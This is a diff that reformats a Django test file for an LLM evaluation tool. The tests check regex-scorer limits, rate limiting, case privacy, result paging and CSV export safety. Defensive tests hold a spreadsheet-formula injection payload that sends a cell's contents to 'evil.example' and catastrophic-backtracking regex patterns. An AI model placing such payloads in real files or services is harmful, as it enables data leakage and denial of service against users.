@@ -28,8 +28,12 @@ def token(alice):
 
 
 def post_evaluation(client, token, scorer):
-    return client.post("/api/evaluations/", json.dumps({"prompt": "order-json", "scorers": [scorer]}),
-                       content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}")
+    return client.post(
+        "/api/evaluations/",
+        json.dumps({"prompt": "order-json", "scorers": [scorer]}),
+        content_type="application/json",
+        HTTP_AUTHORIZATION=f"Bearer {token}",
+    )
 
 
 def resident_mib() -> float:
@@ -51,7 +55,8 @@ def test_huge_regex_repetitions_are_refused_and_the_web_process_memory_stays_fla
 
 
 def test_patterns_whose_repetitions_multiply_are_refused_with_a_code_before_a_job_worker_caches_them(
-        client, token, make_cases):
+    client, token, make_cases
+):
     make_cases(2)
     for letter in "abc":  # each compiled and kept 124-139 MB in the job worker's pattern cache
         answer = post_evaluation(client, token, {"type": "regex", "pattern": f"(?:{letter}{{1000}}){{1000}}"})
@@ -69,14 +74,25 @@ def test_a_regex_that_runs_out_of_time_on_an_output_is_a_scorer_error_not_a_zero
 
 def test_the_result_page_shows_a_scorer_error_beside_the_output(client, alice, make_cases, order_version):
     case = make_cases(1)[0]
-    evaluation = Evaluation.objects.create(prompt_version=order_version, model_name="m", created_by=alice,
-                                           scorers=[{"type": "regex", "pattern": "(a|aa)+$", "threshold": 1}],
-                                           status=JobStatus.FINISHED, total=1, done=1)
-    EvaluationResult.objects.create(evaluation=evaluation, case=case, output="aaaa!", scores={"regex": None},
-                                    error="regex: the pattern took longer than 1 s on this output and was stopped")
+    evaluation = Evaluation.objects.create(
+        prompt_version=order_version,
+        model_name="m",
+        created_by=alice,
+        scorers=[{"type": "regex", "pattern": "(a|aa)+$", "threshold": 1}],
+        status=JobStatus.FINISHED,
+        total=1,
+        done=1,
+    )
+    EvaluationResult.objects.create(
+        evaluation=evaluation,
+        case=case,
+        output="aaaa!",
+        scores={"regex": None},
+        error="regex: the pattern took longer than 1 s on this output and was stopped",
+    )
     client.force_login(alice)
     page = client.get(f"/evaluations/{evaluation.pk}/").content.decode()
-    assert "aaaa!" in page and "took longer than 1 s" in page and "regex <span class=\"error-text\">error" in page
+    assert "aaaa!" in page and "took longer than 1 s" in page and 'regex <span class="error-text">error' in page
 
 
 @pytest.mark.django_db(transaction=True)
@@ -97,15 +113,28 @@ def test_simultaneous_evaluations_cannot_pass_the_per_person_limit_together(toke
     assert sorted(statuses) == [202] * 3 + [429] * 7 and Evaluation.objects.count() == 3
 
 
-def test_a_case_made_private_after_an_evaluation_is_hidden_from_the_others(client, alice, bob, make_cases,
-                                                                           order_version):
+def test_a_case_made_private_after_an_evaluation_is_hidden_from_the_others(
+    client, alice, bob, make_cases, order_version
+):
     cases = make_cases(2)
-    evaluation = Evaluation.objects.create(prompt_version=order_version, model_name="m", created_by=alice,
-                                           scorers=[{"type": "exact_match", "threshold": 1}],
-                                           status=JobStatus.FINISHED, total=2, done=2)
-    other = Evaluation.objects.create(prompt_version=order_version, model_name="m", created_by=alice,
-                                      scorers=[{"type": "exact_match", "threshold": 1}],
-                                      status=JobStatus.FINISHED, total=2, done=2)
+    evaluation = Evaluation.objects.create(
+        prompt_version=order_version,
+        model_name="m",
+        created_by=alice,
+        scorers=[{"type": "exact_match", "threshold": 1}],
+        status=JobStatus.FINISHED,
+        total=2,
+        done=2,
+    )
+    other = Evaluation.objects.create(
+        prompt_version=order_version,
+        model_name="m",
+        created_by=alice,
+        scorers=[{"type": "exact_match", "threshold": 1}],
+        status=JobStatus.FINISHED,
+        total=2,
+        done=2,
+    )
     for run in (evaluation, other):
         for case in cases:
             EvaluationResult.objects.create(evaluation=run, case=case, output=f"output of {case.input_display}")
@@ -125,18 +154,37 @@ def test_a_case_made_private_after_an_evaluation_is_hidden_from_the_others(clien
 
 def test_an_evaluation_of_ten_thousand_cases_pages_its_results(client, alice, make_cases, order_version):
     case = make_cases(1)[0]
-    cases = [FailureCase(prompt_version=order_version, input_text=f"input {n} " + "words " * 20, expected="x" * 100,
-                         created_by=alice, input_digest=f"{n:064d}") for n in range(10_000)]
+    cases = [
+        FailureCase(
+            prompt_version=order_version,
+            input_text=f"input {n} " + "words " * 20,
+            expected="x" * 100,
+            created_by=alice,
+            input_digest=f"{n:064d}",
+        )
+        for n in range(10_000)
+    ]
     FailureCase.objects.bulk_create(cases)
     cases = list(FailureCase.objects.exclude(pk=case.pk))
     runs = []
     for _ in range(2):
-        run = Evaluation.objects.create(prompt_version=order_version, model_name="m", created_by=alice,
-                                        scorers=[{"type": "exact_match", "threshold": 1}], total=len(cases),
-                                        done=len(cases), status=JobStatus.FINISHED)
-        EvaluationResult.objects.bulk_create([EvaluationResult(evaluation=run, case=c, output="o " * 80,
-                                                               passed=n % 3 == 0, scores={"exact_match": 0.0})
-                                              for n, c in enumerate(cases)])
+        run = Evaluation.objects.create(
+            prompt_version=order_version,
+            model_name="m",
+            created_by=alice,
+            scorers=[{"type": "exact_match", "threshold": 1}],
+            total=len(cases),
+            done=len(cases),
+            status=JobStatus.FINISHED,
+        )
+        EvaluationResult.objects.bulk_create(
+            [
+                EvaluationResult(
+                    evaluation=run, case=c, output="o " * 80, passed=n % 3 == 0, scores={"exact_match": 0.0}
+                )
+                for n, c in enumerate(cases)
+            ]
+        )
         runs.append(run)
     client.force_login(alice)
     page = client.get(f"/evaluations/{runs[0].pk}/")
@@ -149,8 +197,9 @@ def test_an_evaluation_of_ten_thousand_cases_pages_its_results(client, alice, ma
     assert len(live.content) < 100_000 and live.content.decode().count('class="result ') == 10
 
 
-def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_survive_a_round_trip(client, alice, token,
-                                                                                       order_version):
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_survive_a_round_trip(
+    client, alice, token, order_version
+):
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     inputs = [formula, "+1+2", "-3", "@SUM(A1)", "\ttabbed", "'quoted", "plain"]
     for text in inputs:
@@ -166,20 +215,33 @@ def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_survive_a_rou
     assert sorted(row["expected"] for row in parsed) == sorted(inputs)
 
 
-def test_the_sweeper_fails_an_evaluation_whose_job_worker_died_and_withdraws_its_cases(client, alice, make_cases,
-                                                                                       order_version):
+def test_the_sweeper_fails_an_evaluation_whose_job_worker_died_and_withdraws_its_cases(
+    client, alice, make_cases, order_version
+):
     from chat import services as chat_services
     from evals.runner import job_key
 
     make_cases(1)
-    evaluation = Evaluation.objects.create(prompt_version=order_version, model_name="m", created_by=alice,
-                                           scorers=[{"type": "exact_match", "threshold": 1}], total=3,
-                                           status=JobStatus.RUNNING,
-                                           heartbeat_at=timezone.now() - timedelta(minutes=10))
-    replies = [chat_services.reply_request_unlisted(owner=alice, kind=Conversation.Kind.EVALUATION,
-                                                    messages=[{"role": "user", "content": f"case {n}"}],
-                                                    model_name="", parameters={}, job=job_key(evaluation.pk))
-               for n in range(3)]
+    evaluation = Evaluation.objects.create(
+        prompt_version=order_version,
+        model_name="m",
+        created_by=alice,
+        scorers=[{"type": "exact_match", "threshold": 1}],
+        total=3,
+        status=JobStatus.RUNNING,
+        heartbeat_at=timezone.now() - timedelta(minutes=10),
+    )
+    replies = [
+        chat_services.reply_request_unlisted(
+            owner=alice,
+            kind=Conversation.Kind.EVALUATION,
+            messages=[{"role": "user", "content": f"case {n}"}],
+            model_name="",
+            parameters={},
+            job=job_key(evaluation.pk),
+        )
+        for n in range(3)
+    ]
     Message.objects.filter(pk=replies[0].pk).update(status=Message.Status.STREAMING, worker_channel="gone")
     client.force_login(alice)
     assert client.get("/evaluations/").status_code == 200  # pages only read
